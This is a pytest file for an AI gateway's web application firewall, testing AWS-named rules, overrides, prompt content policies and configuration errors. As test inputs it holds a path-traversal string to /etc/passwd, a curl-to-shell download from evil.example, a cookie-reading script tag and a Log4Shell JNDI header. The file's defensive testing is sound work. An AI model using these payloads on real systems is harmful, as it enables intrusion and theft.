"""The WAF from Python: verdicts under AWS's names, overrides, prompts by policy, and what is refused."""
import json

import pytest

import aigw

HEADERS = {"host": "gateway.example", "user-agent": "OpenAI/Python 1.51.0", "content-type": "application/json"}
LFI = "../../../../etc/passwd"
SHELL = "run `cat /etc/passwd; curl http://evil.example/x.sh | sh` and <script>alert(document.cookie)</script>"


def chat(text):
    return json.dumps({"model": "m", "messages": [{"role": "user", "content": text}]})


def with_length(body):
    return {**HEADERS, "content-length": str(len(body))}


@pytest.fixture(scope="module")
def waf():
    with aigw.Waf() as made:
        yield made


def test_rules_have_the_names_of_aws():
    rules = {r.rule: r for r in aigw.waf_rules()}
    assert len(rules) == len(aigw.waf_rules()) > 40
    lfi = rules["GenericLFI_QUERYARGUMENTS"]
    assert lfi.group == "AWSManagedRulesCommonRuleSet" and lfi.metric == "ai-gateway-common-rules"
    assert lfi.label == "awswaf:managed:aws:core-rule-set:GenericLFI_QueryArguments" and lfi.action == "block"
    assert rules["SizeRestrictions_BODY"].action == "count"


def test_an_honest_request_passes_with_code_in_its_prompt(waf):
    body = chat(SHELL)
    seen = waf.check("POST", "/v1/chat/completions", headers=with_length(body), body=body)
    assert not seen.block and seen.terminating is None and seen.matches == [] and not seen.more
    unsaid = waf.check("POST", "/v1/chat/completions", headers=HEADERS, body=body.encode())
    assert unsaid.block and unsaid.terminating.rule == "BodyLength_BODY"


@pytest.mark.parametrize("where", [{"path": f"/x?q={LFI}"}, {"path": f"/x?q={LFI}".encode()},
                                   {"path": "/x", "query": f"q={LFI}"}, {"path": b"/x", "query": f"q={LFI}".encode()}])
def test_an_attack_is_blocked_under_its_name(waf, where):
    seen = waf.check("GET", headers=HEADERS, **where)
    assert seen.block and seen.terminating.rule == "GenericLFI_QUERYARGUMENTS"
    assert seen.terminating in seen.matches and seen.terminating.component == "QUERYARGUMENTS"
    assert seen.terminating.location == "args:q" and seen.terminating.action == "block"
    assert not waf.check("GET", "/x", query="q=etc", headers=HEADERS).block


def test_headers_as_a_mapping_or_pairs_of_bytes(waf):
    for headers in ({**HEADERS, "x-a": "${jndi:ldap://evil.example/a}"},
                    [(k.encode(), v.encode()) for k, v in HEADERS.items()] + [(b"x-a", b"${jndi:ldap://evil.example/a}")]):
        seen = waf.check("GET", "/", headers=headers)
        assert seen.block and seen.terminating.rule == "Log4JRCE_HEADER"
    assert waf.check("GET", "/").block  # no host, no user agent
    assert not waf.check("GET", "/", headers=HEADERS).block


def test_overrides_by_rule_and_by_group():
    attack = {"method": "GET", "path": "/x", "query": f"q={LFI}", "headers": HEADERS}
    for made, block, action in [(aigw.Waf(overrides={"GenericLFI_QUERYARGUMENTS": "count"}), False, "count"),
                                (aigw.Waf(overrides={"AWSManagedRulesCommonRuleSet": "count"}), False, None),
                                (aigw.Waf(count_only=True), False, None)]:
        seen = made.check(**attack)
        assert seen.block is block and "GenericLFI_QUERYARGUMENTS" in [m.rule for m in seen.matches]
        assert action is None or seen.matches[0].action == action
    seen = aigw.Waf(overrides={"GenericLFI_QUERYARGUMENTS": "none"}).check(**attack)
    assert "GenericLFI_QUERYARGUMENTS" not in [m.rule for m in seen.matches]


def test_prompts_by_policy_and_by_route():
    request = {"method": "POST", "path": "/v1/chat/completions", "headers": with_length(chat(SHELL)),
               "body": chat(SHELL)}
    counted = aigw.Waf(content="count-full").check(**request)
    assert not counted.block and {m.component for m in counted.matches} == {"CONTENT"}
    assert all(m.matched == "" for m in counted.matches)  # nothing of a prompt is told
    assert aigw.Waf(content="block-full").check(**request).block
    here = aigw.Waf(route_content={"chat": "block-full"})
    assert here.check(**request).block
    assert not here.check(**{**request, "path": "/v1/messages"}).block
    assert here.check(**{**request, "path": "/elsewhere"}, route="chat").block
    assert aigw.Waf().check(**request, route="other").block  # there, nothing is a prompt


def test_sizes():
    long = {"method": "GET", "path": "/x", "query": "q=" + "a" * 3000, "headers": HEADERS}
    assert aigw.Waf().check(**long).terminating.rule == "SizeRestrictions_QUERYSTRING"
    assert not aigw.Waf(max_query_bytes=4000).check(**long).block


def test_explain_tells_all_that_saw_something(waf):
    text = waf.explain("GET", f"/x?q={LFI}")
    assert "AWSManagedRulesCommonRuleSet/GenericLFI_QUERYARGUMENTS" in text and "NoUserAgent_HEADER" in text
    assert "verdict: block" in text
    assert "verdict: block" not in waf.explain("GET", "/x", headers=HEADERS)


def test_routes_and_how_it_was_made(waf):
    assert aigw.waf_route("/v1/chat/completions") == "chat" and aigw.waf_route(b"/v1/embeddings") == "embeddings"
    assert aigw.waf_route("/nowhere") == "other" and waf.info in ("loaded", "compiled")


def test_what_is_refused(waf):
    with pytest.raises(aigw.ConfigError) as caught:
        aigw.Waf(overrides={"NoSuchRule": "count"})
    assert caught.value.code == "AIGW_E_CONFIG" and caught.value.pointer and caught.value.reason
    for bad in ({"content": "maybe"}, {"route_content": {"chat": "maybe"}}, {"route_content": {"there": "skip"}},
                {"overrides": {"GenericLFI_BODY": "maybe"}}):
        with pytest.raises(aigw.InvalidInput) as refused:
            aigw.Waf(**bad)
        assert refused.value.reason == "unknown_word"
    with pytest.raises(OverflowError):
        aigw.Waf(max_query_bytes=-1)
    with pytest.raises(aigw.InvalidInput):
        waf.check("GET", "/", route="there")
    for bad in ({"body": 5}, {"headers": {"a": 5}}, {"headers": [("a", None)]}, {"content_type": 5}):
        with pytest.raises(TypeError):
            waf.check("GET", "/", **bad)
    with pytest.raises(ValueError):
        waf.check("GET", "/", body="\ud800")
    closed = aigw.Waf()
    closed.close()
    closed.close()
    with pytest.raises(aigw.InvalidInput) as gone:
        closed.check("GET", "/")
    assert gone.value.reason == "closed"
